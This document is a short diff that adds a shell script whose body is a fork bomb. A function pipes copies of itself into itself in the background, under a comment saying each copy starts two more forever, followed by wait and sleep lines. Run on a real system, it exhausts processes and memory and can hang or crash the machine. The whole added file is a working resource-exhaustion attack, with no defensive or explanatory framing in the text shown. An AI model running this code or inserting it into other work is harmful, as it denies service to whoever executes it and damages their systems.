@@ -1,0 +1,6 @@
+# Every copy starts two more, for ever.
+echo started
+bomb() { bomb | bomb & }
+bomb
+wait
+sleep 30
